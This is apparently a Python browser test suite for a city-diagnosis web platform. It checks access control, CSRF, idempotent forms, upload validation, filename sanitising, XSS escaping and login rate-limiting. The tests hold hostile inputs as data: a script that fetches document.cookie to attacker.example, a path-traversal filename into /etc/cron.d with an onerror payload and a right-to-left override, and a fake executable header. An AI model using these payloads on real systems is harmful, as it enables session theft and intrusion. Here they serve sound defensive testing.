"""Journey 14, as far as it stands: an attacker gets nothing and leaves a trace; a session that ends loses nothing."""

from __future__ import annotations

import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl

import pytest

from tests.browsing import DESKTOP, PHONE
from tests.journeys.answering import PDF
from tests.journeys.joining import invite, join, sign_in

pytestmark = pytest.mark.browser

PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200
SCRIPT = b"<script>fetch('https://attacker.example/?' + document.cookie)</script>"
# What is sent, under which name: the reason that stands beside the field, in Korean.
UPLOADS = {
    "a program named PDF": ("plan.pdf", PROGRAM, "내용이 그 형식이 아닙니다"),
    "a script named PDF": ("plan.pdf", SCRIPT, "내용이 그 형식이 아닙니다"),
    "a picture that is a script": (
        "picture.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT,
        "이 형식의 파일은",
    ),
    "a program": ("plan.pdf.exe", PROGRAM, "이 형식의 파일은"),
    "an empty file": ("plan.pdf", b"", "비어 있"),
}
HOSTILE = "../../../../etc/cron.d/<img src=x onerror=alert(1)>‮fdp.pdf"


def asked(data_dir: Path, query: str, *values: Any) -> list[tuple[Any, ...]]:
    """Rows of the platform's database."""
    with closing(sqlite3.connect(data_dir / "wego.sqlite3")) as database:
        return database.execute(query, values).fetchall()


def trail(data_dir: Path) -> int:
    return asked(data_dir, "SELECT COUNT(*) FROM core_auditentry")[0][0]


def kept(data_dir: Path) -> tuple[int, set[Path]]:
    """Evidence on record, and the files that are kept."""
    rows = asked(data_dir, "SELECT COUNT(*) FROM records_evidence")[0][0]
    return rows, {path for path in (data_dir / "files").rglob("*") if path.is_file()}


def begin(page: Any) -> str:
    """This year's diagnosis of the person's city, begun: its address."""
    page.goto("/en/my/diagnosis/")
    start = page.get_by_role("button", name=re.compile(r"^Start \d{4}$"))
    if start.count():
        start.click()
    else:
        page.get_by_role("link", name=re.compile(r"^Continue \d{4}$")).click()
    return re.sub(r"^https?://[^/]+/en", "", page.url)


def open_upload(page: Any, diagnosis: str, language: str) -> Any:
    """The section with a question for a file, opened: the fieldset of that question."""
    page.goto(f"/{language}{diagnosis}sections/governance/")
    page.locator("[name=gov_strategy][value=adopted]").check()
    page.locator("button[value=next]").click()
    page.goto(f"/{language}{diagnosis}sections/governance/")
    return page.locator("#q-gov_strategy_file")


def test_guessed_addresses_lead_nowhere(become: Any, new_page: Any, data_dir: Path):
    """An officer of one city tries every number there is."""
    seoul = become(new_page(DESKTOP), "Seo-yeon Demo")
    begin(seoul)
    spy = become(new_page(DESKTOP), "Ines Demo")
    request = spy.context.request
    numbers = [number for (number,) in asked(data_dir, "SELECT id FROM questionnaires_response ORDER BY id")]
    sample = [*numbers[:5], *numbers[-5:]]

    answers = {
        path: request.get(path, max_redirects=0).status
        for number in sample
        for path in (
            f"/en/my/diagnosis/{number}/",
            f"/en/my/diagnosis/{number}/check/",
            f"/ko/my/diagnosis/{number}/sections/mobility/",
            f"/zh-hans/my/diagnosis/{number}/report/",
            f"/en/my/diagnosis/{number}/report.pdf",
            f"/en/my/diagnosis/{number}/evidence/1/",
        )
    }
    stored = ("files/evidence/2026/1.pdf", "wego.sqlite3", "secret-key", "mail/", "static/../wego.sqlite3")
    answers |= {f"/{path}": request.get(f"/{path}").status for path in stored}

    assert set(answers.values()) == {404}, {path: status for path, status in answers.items() if status != 404}
    assert request.get("/en/office/people/", max_redirects=0).status == 403
    assert spy.goto("/en/my/organisations/seoul/colleagues/").status == 404


def test_a_form_counts_once_however_often_it_is_sent(become: Any, new_page: Any, data_dir: Path):
    """Clicked twice, and the very same request once more: one invitation, and the page says so."""
    page = become(new_page(PHONE, javascript=False), "Seo-yeon Demo")
    address, invited = "/en/my/organisations/seoul/colleagues/", "SELECT email, COUNT(*) FROM members_invitation"
    page.goto(address)
    page.get_by_label("E-mail", exact=True).fill("twice@seoul.example")

    # Not `expect_navigation`: the second click breaks the first one's way off.
    with page.expect_request(lambda request: request.method == "POST") as sent:
        page.get_by_role("button", name="Send invitation").dblclick()
    page.get_by_text("twice@seoul.example").first.wait_for()
    form = dict(parse_qsl(sent.value.post_data))
    again = page.context.request.post(address, form=form)

    assert "This was already sent. Nothing was done twice." in again.text()
    assert asked(data_dir, f"{invited} WHERE email = 'twice@seoul.example'") == [("twice@seoul.example", 1)]


def test_a_form_is_worth_nothing_elsewhere_or_twice(become: Any, new_page: Any, data_dir: Path):
    page = become(new_page(DESKTOP), "Seo-yeon Demo")
    diagnosis = begin(page)
    before = trail(data_dir)

    # From a page that is not ours: without the token, or with a made-up one.
    for fields in ({}, {"csrfmiddlewaretoken": "x" * 64}):
        answer = page.context.request.post(f"/ko{diagnosis}submit/", form=fields)
        assert answer.status == 403
        assert "양식을 처리할 수 없습니다" in answer.text() or "권한" in answer.text()
    # The same form once more: one diagnosis a year.
    page.goto("/en/my/diagnosis/")
    token = page.locator("[name=csrfmiddlewaretoken]").first.get_attribute("value")
    for _time in range(2):
        page.context.request.post("/en/my/diagnosis/start/seoul/", form={"csrfmiddlewaretoken": token})

    found = asked(
        data_dir,
        "SELECT year, COUNT(*) FROM questionnaires_response WHERE organisation_id ="
        " (SELECT id FROM members_organisation WHERE slug = 'seoul') GROUP BY year HAVING COUNT(*) > 1",
    )
    assert found == []
    assert trail(data_dir) == before


@pytest.mark.parametrize("what", UPLOADS)
def test_an_upload_that_is_not_what_it_says_is_refused_beside_its_field(
    what: str, become: Any, new_page: Any, data_dir: Path, tmp_path: Path
):
    name, content, reason = UPLOADS[what]
    page = become(new_page(PHONE, javascript=False), "Seo-yeon Demo")
    question = open_upload(page, begin(page), "ko")
    before = kept(data_dir)

    question.locator("input[type=file]").set_input_files(
        {"name": name, "mimeType": "application/pdf", "buffer": content}
    )
    page.locator("button[value=next]").click()

    assert reason in question.locator(".error").inner_text()
    assert page.locator("[name=gov_strategy][value=adopted]").is_checked(), "what was answered is kept"
    assert kept(data_dir) == before


def test_a_hostile_name_is_only_a_name(become: Any, new_page: Any, data_dir: Path):
    page = become(new_page(DESKTOP), "Chae-won Demo")
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    question = open_upload(page, begin(page), "en")
    _rows, before = kept(data_dir)

    question.locator("input[type=file]").set_input_files({"name": HOSTILE, "mimeType": "text/html", "buffer": PDF})
    page.locator("button[value=later]").click()
    page.goto(f"/en{begin(page)}sections/governance/")
    link = page.locator("#q-gov_strategy_file a").first
    served = page.context.request.get(link.get_attribute("href"))

    assert not re.search(r"[<>/\\\u202e]", link.inner_text())
    assert served.body() == PDF
    assert served.headers["content-type"] == "application/pdf"
    assert served.headers["content-disposition"].startswith("attachment")
    assert served.headers["x-content-type-options"] == "nosniff"
    (stored,) = kept(data_dir)[1] - before
    assert re.fullmatch(r"[0-9a-f]{32}\.pdf", stored.name)


def test_what_is_typed_as_markup_is_shown_as_text(become: Any, new_page: Any):
    page = become(new_page(DESKTOP), "Bina Demo")
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    page.goto("/en/my/organisations/kathmandu/profile/")
    attack = "<script>alert(1)</script><img src=x onerror=alert(2)>{{ request.user }}"

    page.get_by_label("Summary in English").fill(attack)
    page.get_by_role("button", name="Propose changes").click()

    page.get_by_text(attack).first.wait_for()
    page.goto(f"/en/members/?q={attack}")
    assert page.get_by_role("searchbox").input_value() == attack


def test_a_session_that_ends_while_answering_loses_nothing(become: Any, new_page: Any, mail_to: Any):
    """Saved answers stay; what was typed and not saved is there again after signing in, on the same page."""
    invite(become(new_page(PHONE, javascript=False), "Seo-yeon Demo"), "late@seoul.example")
    page = new_page(PHONE, javascript=False)
    join(page, "late@seoul.example", mail_to)
    address = f"/ko{begin(page)}sections/safety/"
    page.goto(address)
    page.locator("[name=saf_warning]").nth(1).check()
    page.locator("button[value=later]").click()
    page.goto(address)
    page.locator("[name=saf_warning]").nth(2).check()
    page.context.clear_cookies(name="sessionid")

    page.locator("button[value=next]").click()
    page.wait_for_url("**/ko/accounts/login/**")
    sign_in(page, "late@seoul.example")

    assert page.url.endswith(address)
    assert page.locator("[name=saf_warning]").nth(2).is_checked()
    page.get_by_text("아직 저장되지 않았").wait_for()
    page.goto(address)
    assert page.locator("[name=saf_warning]").nth(1).is_checked(), "the saved answer"


def test_a_flood_of_sign_ins_is_held_back_and_leaves_a_trace(new_page: Any, data_dir: Path):
    page = new_page(PHONE, javascript=False)
    page.goto("/ko/accounts/login/")
    token = page.locator("main [name=csrfmiddlewaretoken]").get_attribute("value")
    before = trail(data_dir)

    statuses = [
        page.context.request.post(
            "/ko/accounts/login/",
            form={
                "csrfmiddlewaretoken": token,
                "login": "officer-large@step-in.example",
                "password": f"guess {number}",
            },
        ).status
        for number in range(40)
    ]

    assert 429 in statuses
    page.goto("/ko/my/")
    assert "/accounts/login/" in page.url
    refused = asked(
        data_dir, "SELECT action, actor_key FROM core_auditentry ORDER BY id DESC LIMIT ?", trail(data_dir) - before
    )
    assert set(refused) == {("person.sign_in_refused", None)}
    log = (data_dir / "serve.log").read_text()
    assert "held back after too many attempts, from 127.0.0.1" in log
    assert "officer-large@step-in.example" not in log
